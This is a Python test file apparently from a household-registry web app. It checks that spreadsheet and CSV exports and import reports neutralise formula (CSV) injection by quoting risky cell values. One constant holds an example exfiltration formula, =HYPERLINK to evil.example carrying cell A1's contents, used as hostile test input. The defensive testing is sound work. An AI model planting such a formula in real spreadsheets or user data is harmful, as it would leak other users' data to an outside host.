"""A text typed by one user never becomes a live formula in another user's spreadsheet (OWASP CSV injection)."""

import io
from decimal import Decimal

from django.urls import reverse
from openpyxl import load_workbook

from gotong.core.cellsafe import safe_cell
from gotong.core.tabular import csv_text, xlsx_bytes
from gotong.exports.tests.helpers import csv_rows
from gotong.registry.importing.report import report_text
from gotong.registry.importing.result import ImportResult
from gotong.registry.tests.factories import HouseholdFactory, PersonFactory, rt_in

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def test_household_address_exports_as_text_not_formula(client, facilitator, areas):
    household = HouseholdFactory(area=rt_in("21.72.03.1005", 1, 1), address=HYPERLINK, welfare_decile=1)
    PersonFactory(household=household, name="Kepala")
    client.force_login(facilitator)

    url = reverse("exports:download", kwargs={"key": "registry.households", "fmt": "xlsx"})
    sheet = load_workbook(io.BytesIO(client.get(url).content)).active
    headers = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=headers.index("Alamat") + 1)
    assert cell.data_type == "s"  # a string cell, not a formula ("f")
    assert cell.value == "'" + HYPERLINK
    decile = sheet.cell(row=2, column=headers.index("Desil") + 1) if "Desil" in headers else None
    if decile is not None:
        assert decile.data_type == "n"

    url = reverse("exports:download", kwargs={"key": "registry.households", "fmt": "csv"})
    headers, rows = csv_rows(client.get(url).content)
    assert rows[0][headers.index("Alamat")] == "'" + HYPERLINK


def test_every_formula_start_is_quoted_and_numbers_are_left_alone():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Jl. Mawar 5") == "Jl. Mawar 5"
    assert safe_cell(-5) == -5 and safe_cell(Decimal("-2.5")) == Decimal("-2.5") and safe_cell(None) is None


def test_report_sheets_keep_negative_numbers_numeric_and_quote_text():
    content = xlsx_bytes([("Laporan", ["Nama", "Saldo"], [["@SUM(A1:A9)", -1500], ["-ok", Decimal("-2.50")]])])
    sheet = load_workbook(io.BytesIO(content)).active
    rows = [[c for c in r] for r in sheet.iter_rows(min_row=2)]
    assert rows[0][0].value == "'@SUM(A1:A9)" and rows[0][0].data_type == "s"
    assert rows[0][1].value == -1500 and rows[0][1].data_type == "n"
    assert rows[1][0].value == "'-ok"
    assert rows[1][1].data_type == "n"

    text = csv_text(["Nama", "Saldo"], [["+62 811", -1500]])
    assert "'+62 811;-1500" in text


def test_import_report_quotes_the_value_from_the_file():
    result = ImportResult(filename="warga.csv")
    result.add(2, "alamat", HYPERLINK, "contoh")
    assert "'=HYPERLINK" in report_text(result)
